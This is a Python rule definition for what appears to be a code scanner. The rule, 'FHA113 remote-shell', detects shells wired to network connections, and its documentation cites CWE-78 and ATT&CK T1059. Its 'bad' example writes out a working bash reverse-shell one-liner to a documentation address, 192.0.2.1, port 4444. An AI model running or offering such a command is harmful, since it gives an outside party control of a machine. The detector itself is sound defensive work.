"""A shell is handed to another machine.

What it does
    Finds a shell or an interpreter whose input or output is a network connection, in either direction
    and in many languages.
Why is this bad
    Whoever is at the other end controls this machine, past every guard.
How to fix
    Nothing in development needs it. Use ssh, with a key that a person set up.
References
    CWE-78; MITRE ATT&CK T1059
"""

from fumehood.core.finding import Confidence, Severity
from fumehood.core.rule import Example, documented

RULE = documented(
    __doc__,
    "FHA113",
    "remote-shell",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(78,),
    owasp=("LLM06:2025",),
    bad=(Example("command.sh", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", line=1),),
    good=(Example("command.sh", "nc -z localhost 5432\n"),),
)
